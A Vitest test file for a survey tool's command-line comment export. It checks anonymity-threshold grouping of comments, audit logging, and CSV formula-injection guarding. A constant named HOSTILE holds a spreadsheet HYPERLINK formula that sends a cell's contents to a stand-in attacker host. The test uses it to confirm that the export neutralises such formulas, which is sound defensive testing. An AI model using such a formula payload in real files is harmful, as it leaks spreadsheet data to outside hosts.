import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { databaseFromEnv } from '@spejl/db';
import { runSpejl } from './harness/run-spejl.ts';

const PEOPLE = fileURLToPath(new URL('../../../packages/core/test/rollup/fixtures/egeskov-people.csv', import.meta.url));

// The sample municipality: employees per leader 1001: 2, 1002: 2, 1003: 1, 1004: 5, 1005: 2, 1013: 3.
const MANAGER: Record<string, string | null> = { 1001: null, 1002: '1001', 1003: '1001', 1004: '1002', 1005: '1002', 1013: '1003' };
const TEAMS: Record<string, number> = { 1001: 2, 1002: 2, 1003: 1, 1004: 5, 1005: 2, 1013: 3 };
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"klik")';
const HEADER = 'subject_id,rater_role,borgerorientering.kultur,borgerorientering.balance,borgerorientering.oplevet-kvalitet,borgerorientering.vaerdi,comment.borgerorientering.godt,comment.borgerorientering.bedre';
const quote = (text: string) => `"${text.replaceAll('"', '""')}"`;
const forms = Object.entries(TEAMS).flatMap(([leader, n]) => Array.from({ length: n }, (_, i) => ({ leader, godt: `${leader} godt ${i}`, bedre: i === 0 && leader === '1004' ? HOSTILE : i === 1 ? `linje et\nlinje to; ${leader}` : '' })));

/**
 * Where each leader's employee comments belong, worked out here from DESIGN.md's rule alone: a team
 * of at least the threshold keeps its own; the rest go up to the first chain whose still-unplaced
 * forms reach the threshold. The numbers' suppression publishes every group used here (k = 3).
 */
function expectedScope(threshold: number): Map<string, { leader: string; scope: 'direct' | 'chain' }> {
  const placed = new Map<string, { leader: string; scope: 'direct' | 'chain' }>();
  const below = (leader: string, top: string): boolean => leader === top || (MANAGER[leader] !== null && below(MANAGER[leader]!, top));
  for (const leader of Object.keys(TEAMS)) if (TEAMS[leader]! >= threshold) placed.set(leader, { leader, scope: 'direct' });
  const depth = (l: string): number => (MANAGER[l] === null ? 0 : 1 + depth(MANAGER[l]!));
  for (const top of Object.keys(TEAMS).sort((a, b) => depth(b) - depth(a))) {
    const waiting = Object.keys(TEAMS).filter((l) => below(l, top) && !placed.has(l));
    if (waiting.reduce((n, l) => n + TEAMS[l]!, 0) >= threshold) for (const l of waiting) placed.set(l, { leader: top, scope: 'chain' });
  }
  return placed;
}

// On PGlite only: the sets themselves are tested on every engine in packages/core/test/comments.
describe('spejl comments export', () => {
  const dir = mkdtempSync(join(tmpdir(), 'spejl-comments-'));
  const env: Record<string, string> = { SPEJL_DATA_DIR: join(dir, 'data'), DATABASE_URL: '', SPEJL_LINK_SECRET: 'cli-test-link-secret-0123456789-abcdefghijk', SMTP_URL: '', LC_ALL: 'en_GB.UTF-8' };
  const spejl = (...args: string[]) => runSpejl(args, env);
  const ok = async (...args: string[]) => {
    const run = await spejl(...args);
    expect(run.code, run.stderr).toBe(0);
    return run.stdout;
  };

  beforeAll(async () => {
    copyFileSync(PEOPLE, join(dir, 'people.csv'));
    writeFileSync(join(dir, 'responses.csv'), [HEADER, ...forms.map((f) => `${f.leader},employee,4,4,3,4,${quote(f.godt)},${quote(f.bedre)}`)].join('\n'));
    await ok('tenant', 'create', '--slug', 'egeskov', '--name', 'Egeskov Kommune', '--threshold', '3');
    await ok('people', 'import', '--tenant', 'egeskov', join(dir, 'people.csv'));
    const round = (await ok('round', 'create', '--tenant', 'egeskov', '--name', 'Måling', '--themes', 'borgerorientering')).trim().split(/\s+/).at(-1)!;
    await ok('round', 'launch', '--tenant', 'egeskov', '--round', round);
    await ok('round', 'close', '--tenant', 'egeskov', '--round', round);
    await ok('responses', 'import', '--tenant', 'egeskov', '--round', round, join(dir, 'responses.csv'));
  }, 240_000); // six command-line runs, each starting the embedded database
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('writes every shown comment once, in the set DESIGN.md\'s rule gives it, and no comment of a small team on its own', async () => {
    await ok('comments', 'export', '--tenant', 'egeskov', '--round', 'Måling', '--out', join(dir, 'comments.csv'));
    const csv = readFileSync(join(dir, 'comments.csv'), 'utf8');
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(parsed.meta.fields).toEqual(['leader_id', 'scope', 'rater_role', 'question_id', 'text']);
    const expected = expectedScope(5); // the comment threshold's default: max(k, 5)
    const want = forms.flatMap((f) => {
      const at = expected.get(f.leader);
      return at ? [[at.leader, at.scope, f.godt], ...(f.bedre ? [[at.leader, at.scope, f.bedre]] : [])] : [];
    });
    const got = parsed.data.map((r) => [r.leader_id, r.scope, r.text!.replace(/^'(?==)/, '')]);
    expect(got.map((r) => r.join('|')).sort()).toEqual(want.map((r) => r.join('|')).sort());
    // Every set holds at least five forms' comments: 1004's own, and the ten forms waiting at the top.
    const sets = new Map<string, Set<string>>();
    for (const r of parsed.data) (sets.get(`${r.leader_id}/${r.scope}`) ?? sets.set(`${r.leader_id}/${r.scope}`, new Set()).get(`${r.leader_id}/${r.scope}`)!).add(r.text!.split(' godt ')[0]!);
    expect([...sets.keys()].sort()).toEqual(['1001/chain', '1004/direct']);
  }, 60_000);

  it('keeps a formula a formula only in JSON: the CSV guards it, line breaks and separators stay inside one field', async () => {
    const csv = readFileSync(join(dir, 'comments.csv'), 'utf8');
    expect(csv).toContain(`"'${HOSTILE.replaceAll('"', '""')}"`);
    expect(csv).not.toMatch(/(^|[,;\n])=HYPERLINK/);
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(parsed.data.some((r) => r.text === 'linje et\nlinje to; 1004')).toBe(true);
    const json = JSON.parse(await ok('comments', 'export', '--tenant', 'egeskov', '--round', 'Måling', '--format', 'json')) as { text: string }[];
    expect(json.map((r) => r.text)).toContain(HOSTILE);
    expect(json).toHaveLength(parsed.data.length);
  }, 60_000);

  it('audits every export, as the console\'s, with the format and count and never a text', async () => {
    const handle = await databaseFromEnv({ ...process.env, ...env });
    try {
      const rows = await handle.db.selectFrom('audit_log').select(['action', 'details']).where('action', '=', 'comments.export').execute();
      expect(rows.map((r) => r.details)).toEqual([
        expect.objectContaining({ format: 'csv', via: 'cli' }),
        expect.objectContaining({ format: 'json', via: 'cli' }),
      ]);
      expect(JSON.stringify(rows)).not.toContain('HYPERLINK');
    } finally {
      await handle.close();
    }
  }, 60_000);
});
